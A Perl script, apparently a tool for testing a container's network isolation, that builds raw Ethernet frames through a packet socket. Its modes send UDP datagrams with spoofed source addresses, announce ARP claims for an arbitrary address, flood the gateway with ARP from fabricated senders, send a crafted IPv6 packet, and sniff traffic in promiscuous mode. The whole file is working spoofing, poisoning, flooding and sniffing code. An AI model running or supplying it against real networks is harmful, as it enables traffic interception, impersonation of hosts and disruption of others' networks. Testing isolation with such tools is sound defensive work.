#!/usr/bin/perl
# Frames that no honest program sends, through the container's own interface.
#   forge.pl udp GATEWAY FROM TO PORT TEXT   a datagram with this source, by way of the gateway
#   forge.pl arp GATEWAY ADDRESS             says a hundred times that ADDRESS is here
#   forge.pl flood GATEWAY COUNT             frames and ARP from so many senders that are not there
#   forge.pl six GATEWAY                     an IPv6 datagram to the gateway's card
#   forge.pl sniff GATEWAY SECONDS           which addresses frames came from or went to
use strict;
use warnings;
use Socket;

my ($what, $gateway, @rest) = @ARGV;
my $here = pack 'H12', (slurp('/sys/class/net/eth0/address') =~ tr/:\n//dr);
my $there = pack 'H12', card($gateway);
my $index = slurp('/sys/class/net/eth0/ifindex') + 0;
socket(my $wire, 17, SOCK_RAW, unpack 'S', pack 'n', 3) or die "no packet socket: $!\n";
bind $wire, pack 'SnlSCCa8', 17, 3, $index, 0, 0, 0, '' or die "bind: $!\n";
{ udp => \&udp, arp => \&arp, six => \&six, flood => \&flood, sniff => \&sniff }->{$what}->(@rest);
print "done\n";

sub slurp { local (@ARGV, $/) = shift; return <> }

# The gateway's card: a datagram has the kernel ask for it.
sub card {
    my $address = shift;
    socket my $knock, PF_INET, SOCK_DGRAM, 0;
    for (1 .. 100) {
        send $knock, 'x', 0, pack_sockaddr_in 9, inet_aton $address;
        for (split /\n/, slurp('/proc/net/arp')) {
            my ($ip, undef, undef, $card) = split ' ';
            return $card =~ tr/://dr if $ip eq $address && $card ne '00:00:00:00:00:00';
        }
        select undef, undef, undef, 0.02;
    }
    die "the gateway has no card\n";
}

sub frame {
    my ($to, $type, $bytes) = @_;
    send $wire, $to . $here . pack('n', $type) . $bytes, 0, pack 'SnlSCCa8', 17, $type, $index, 0, 0, 6, $to
        or die "send: $!\n";
}

sub checksum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', shift;
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

sub udp {
    my ($from, $to, $port, $text) = @_;
    my $datagram = pack 'nnnn a*', 4000, $port, 8 + length $text, 0, $text;
    my @header = (0x45, 0, 20 + length $datagram, 1, 0, 64, 17, 0, inet_aton($from), inet_aton($to));
    $header[7] = checksum(pack 'CCnnnCCna4a4', @header);
    frame($there, 0x0800, pack('CCnnnCCna4a4', @header) . $datagram);
}

sub arp {
    my $claimed = inet_aton shift;
    my $everyone = "\xff" x 6;
    for (1 .. 50) {
        frame($everyone, 0x0806, pack 'nnCCn a6a4a6a4', 1, 0x0800, 6, 4, 1, $here, $claimed, "\0" x 6, $claimed);
        frame($there, 0x0806, pack 'nnCCn a6a4a6a4', 1, 0x0800, 6, 4, 2, $here, $claimed, $there, inet_aton $gateway);
    }
}

sub flood {
    my $count = shift;
    for my $number (1 .. $count) {
        ($here, my $who) = (pack('nN', 0x0200, $number), pack 'N', 0x0b000000 + $number);
        frame($there, 0x0806, pack 'nnCCn a6a4a6a4', 1, 0x0800, 6, 4, 1, $here, $who, "\0" x 6, inet_aton $gateway);
    }
}

sub six {
    my $from = pack 'H*', 'fe800000000000000000000000000099';
    my $to = pack 'H*', 'ff020000000000000000000000000001';
    frame($there, 0x86dd, pack('NnCC', 0x60000000, 8, 17, 64) . $from . $to . pack 'nnnn', 4000, 9, 8, 0xffff);
}

sub sniff {
    my $end = time + shift;
    my %seen;
    setsockopt $wire, 263, 1, pack 'lSSa8', $index, 1, 0, '';    # PACKET_ADD_MEMBERSHIP, promiscuous
    while (time < $end) {
        my $ready = '';
        vec($ready, fileno $wire, 1) = 1;
        next unless select $ready, undef, undef, 0.1;
        recv $wire, my $bytes, 2048, 0;
        my $type = unpack 'x12 n', $bytes;
        $seen{inet_ntoa $_}++ for $type == 0x0800 ? unpack('x26 a4a4', $bytes) : ();
    }
    print map { "saw $_\n" } sort keys %seen;
}
